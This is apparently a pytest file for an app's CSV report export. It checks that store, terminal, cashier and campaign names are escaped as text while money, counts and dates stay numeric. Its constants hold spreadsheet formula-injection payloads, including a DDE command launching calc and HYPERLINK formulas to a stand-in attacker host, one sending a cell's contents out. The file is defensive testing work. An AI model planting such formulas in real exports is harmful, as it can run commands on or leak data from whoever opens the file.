"""The reports as CSV: names someone typed never reach a spreadsheet as formulas, while money,
counts and dates are written as they are."""
from __future__ import annotations

import csv
import io

import pytest

from sqlalchemy import update

from app.api.report_csv import as_text
from app.models import Store, Terminal
from tests.checkout.conftest import line
from tests.program.helpers import change_program, create_campaign
from tests.reports.test_reports_api import report, today

CASHIER = "=cmd|' /C calc'!A0"
STORE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
TERMINAL = "+SUM(1,1)"
CAMPAIGN = '=HYPERLINK("http://evil.example","Latte")'


def rows(response) -> list[list[str]]:
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def named_shop(shop) -> None:
    shop.arrange(lambda s: s.execute(update(Store).where(Store.id == shop.store_id)
                                     .values(name=STORE)))
    shop.arrange(lambda s: s.execute(update(Terminal).where(Terminal.id == shop.terminal_id)
                                     .values(name=TERMINAL)))


def sell_by_cashier(register, customer_id: str, lines: list[dict], redeem: str | None = None):
    session = register.open(customer_id, cashier={"externalId": "C-1", "name": CASHIER})
    quote = register.quote(session["id"], lines, redeem)
    if quote["discount"] != "0.00":
        register.hold(session["id"], quote["id"])
    return register.commit(session["id"], quote["id"])


def test_the_registers_names_are_text_and_its_money_as_it_is(client, tenant, shop, register):
    named_shop(shop)
    shop.program(accrual_delay_days=0)
    sale = sell_by_cashier(register, shop.customer("20.00"), [line("1", "100.00")],
                           redeem="12.50")
    register.return_lines(sale["id"], [("1", "1")])
    day = today()
    expected = {"store": "'" + STORE, "terminal": "'" + TERMINAL, "cashier": "'" + CASHIER}
    for group_by, name in expected.items():
        table = rows(report(client, tenant, "registers", accept="text/csv",
                            **{"from": day, "to": day, "groupBy": group_by}))
        item = dict(zip(table[0], table[1]))
        assert item["name"] == name, group_by
        assert (item["amount"], item["discount"], item["sales"]) == ("87.50", "12.50", "1")
    by_day = dict(zip(*rows(report(client, tenant, "registers", accept="text/csv",
                                   **{"from": day, "to": day, "groupBy": "day"}))))
    assert by_day["key"] == day and by_day["name"] == ""


def test_a_campaigns_name_is_text_and_a_negative_sum_stays_a_number(client, tenant, shop,
                                                                    register):
    shop.program(accrual_delay_days=0)
    change_program(client, tenant, tiers=[
        {"name": "@Base", "minSpend": "0.00", "accrualPercent": "5"},
        {"name": "-Gold", "minSpend": "1000.00", "accrualPercent": "7"}])
    campaign = create_campaign(client, tenant, name=CAMPAIGN, skus=["LATTE"],
                               accrualPercent="10")
    register.checkout(shop.customer("50.00"), [line("1", "300.00", sku="LATTE")], redeem="12.50")
    day = today()

    figures = dict(rows(report(client, tenant, "program", accept="text/csv",
                               **{"from": day, "to": day}))[1:])
    assert figures[f"campaigns.{campaign['id']}.name"] == "'" + CAMPAIGN
    assert figures[f"campaigns.{campaign['id']}.sales"] == "1"
    # A tier's name is inside its figure's label, which begins with the list's name.
    assert figures["tiers.@Base.customers"] == "1" and figures["tiers.-Gold.customers"] == "0"
    assert figures["redeemed"] == "12.50"

    ledger = rows(report(client, tenant, "ledger", accept="text/csv",
                         **{"from": day, "to": day}))
    assert dict(zip(ledger[0], ledger[1]))["redeemed"] == "-12.50"
    assert dict(zip(ledger[0], ledger[1]))["period"] == day

    liability = dict(rows(report(client, tenant, "liability", accept="text/csv"))[1:])
    assert liability["asOf"].startswith(day[:4]) and liability["available"][0].isdigit()


@pytest.mark.parametrize("typed, written", [
    ("=1+1", "'=1+1"), ("+7 shop", "'+7 shop"), ("-Outlet", "'-Outlet"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTab", "'\tTab"), ("\rReturn", "'\rReturn"), ("Corner = shop", "Corner = shop"),
    ("", ""), (None, None)])
def test_a_name_that_begins_a_formula_is_written_as_text(typed, written):
    assert as_text(typed) == written
